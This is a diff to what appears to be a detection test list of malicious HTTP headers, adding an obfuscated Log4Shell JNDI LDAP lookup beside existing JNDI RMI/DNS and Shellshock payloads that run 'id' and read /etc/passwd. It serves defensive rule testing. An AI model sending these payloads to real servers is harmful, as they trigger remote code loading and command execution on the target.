@@ -45,6 +45,7 @@ HEADER_ATTACKS = [
      500110),
     ("User-Id", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.5/a}", 500110),
     ("If-None-Match", "${jndi:dns://x.example/a}", 500110),
+    ("X-Client-Version", "${jn${lower:d}i:ldap://203.0.113.5/a}", 500115),
     ("Accept-Language", "() { :; }; /bin/bash -c 'id'", 500100),
     ("X-Custom-Trace", "() { _; } >_[$($())] { echo; cat /etc/passwd; }",
      500100),
